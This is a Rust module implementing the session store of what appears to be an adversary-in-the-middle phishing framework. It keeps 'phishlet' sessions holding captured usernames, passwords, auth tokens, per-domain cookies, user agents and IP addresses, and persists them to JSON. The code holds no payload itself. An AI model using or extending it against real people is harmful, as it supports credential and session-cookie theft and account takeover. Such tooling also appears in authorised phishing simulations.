//! Captured session store
//!
//! Sessions are kept in insertion order; ids are assigned by the store and
//! never change. The store can optionally be backed by a JSON file that is
//! rewritten on [`SessionStore::flush`].

use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use thiserror::Error;
use tracing::debug;

/// Session store errors
#[derive(Debug, Error)]
pub enum SessionError {
    #[error("session {0} not found")]
    NotFound(u64),

    #[error("session store I/O error: {0}")]
    Io(#[from] std::io::Error),

    #[error("session store is corrupt: {0}")]
    Corrupt(#[from] serde_json::Error),
}

/// One captured cookie
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CookieToken {
    pub name: String,
    pub value: String,
    #[serde(default)]
    pub path: String,
    #[serde(default)]
    pub http_only: bool,
}

/// Captured interaction record
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Session {
    pub id: u64,
    pub phishlet: String,
    #[serde(default)]
    pub landing_url: String,
    #[serde(default)]
    pub username: String,
    #[serde(default)]
    pub password: String,
    #[serde(default)]
    pub custom: HashMap<String, String>,
    #[serde(default)]
    pub body_tokens: HashMap<String, String>,
    #[serde(default)]
    pub http_tokens: HashMap<String, String>,
    /// domain -> cookie name -> cookie
    #[serde(default)]
    pub cookie_tokens: HashMap<String, HashMap<String, CookieToken>>,
    #[serde(default)]
    pub user_agent: String,
    #[serde(default)]
    pub remote_addr: String,
    pub create_time: i64,
    pub update_time: i64,
}

/// Narrow contract the control plane depends on
pub trait SessionStore: Send + Sync {
    /// All sessions in insertion order
    fn list(&self) -> Result<Vec<Session>, SessionError>;

    fn delete(&self, id: u64) -> Result<(), SessionError>;

    /// Persist pending changes
    fn flush(&self) -> Result<(), SessionError>;
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct SessionData {
    next_id: u64,
    sessions: Vec<Session>,
}

/// In-memory session list with optional JSON persistence
#[derive(Debug)]
pub struct SessionDb {
    data: RwLock<SessionData>,
    path: Option<PathBuf>,
}

impl SessionDb {
    /// Memory-only store
    pub fn in_memory() -> Self {
        Self {
            data: RwLock::new(SessionData {
                next_id: 1,
                sessions: Vec::new(),
            }),
            path: None,
        }
    }

    /// Open a file-backed store, creating it on first flush
    pub fn open(path: impl AsRef<Path>) -> Result<Self, SessionError> {
        let path = path.as_ref().to_path_buf();
        let data = if path.exists() {
            let raw = std::fs::read(&path)?;
            let mut data: SessionData = serde_json::from_slice(&raw)?;
            let max_id = data.sessions.iter().map(|s| s.id).max().unwrap_or(0);
            data.next_id = data.next_id.max(max_id + 1);
            data
        } else {
            SessionData {
                next_id: 1,
                sessions: Vec::new(),
            }
        };
        debug!(path = %path.display(), sessions = data.sessions.len(), "Opened session store");
        Ok(Self {
            data: RwLock::new(data),
            path: Some(path),
        })
    }

    /// Record a new session, assigning its id
    pub fn create(&self, phishlet: &str, landing_url: &str, user_agent: &str, remote_addr: &str) -> u64 {
        let now = chrono::Utc::now().timestamp();
        let mut data = self.data.write();
        let id = data.next_id;
        data.next_id += 1;
        data.sessions.push(Session {
            id,
            phishlet: phishlet.to_string(),
            landing_url: landing_url.to_string(),
            user_agent: user_agent.to_string(),
            remote_addr: remote_addr.to_string(),
            create_time: now,
            update_time: now,
            ..Default::default()
        });
        id
    }

    /// Apply an in-place update and bump the update timestamp
    pub fn update<F>(&self, id: u64, f: F) -> Result<(), SessionError>
    where
        F: FnOnce(&mut Session),
    {
        let mut data = self.data.write();
        let session = data
            .sessions
            .iter_mut()
            .find(|s| s.id == id)
            .ok_or(SessionError::NotFound(id))?;
        f(session);
        session.id = id;
        session.update_time = chrono::Utc::now().timestamp();
        Ok(())
    }

    pub fn len(&self) -> usize {
        self.data.read().sessions.len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl SessionStore for SessionDb {
    fn list(&self) -> Result<Vec<Session>, SessionError> {
        Ok(self.data.read().sessions.clone())
    }

    fn delete(&self, id: u64) -> Result<(), SessionError> {
        let mut data = self.data.write();
        let pos = data
            .sessions
            .iter()
            .position(|s| s.id == id)
            .ok_or(SessionError::NotFound(id))?;
        data.sessions.remove(pos);
        Ok(())
    }

    fn flush(&self) -> Result<(), SessionError> {
        let Some(path) = &self.path else {
            return Ok(());
        };
        let raw = serde_json::to_vec_pretty(&*self.data.read())?;
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, raw)?;
        std::fs::rename(&tmp, path)?;
        Ok(())
    }
}
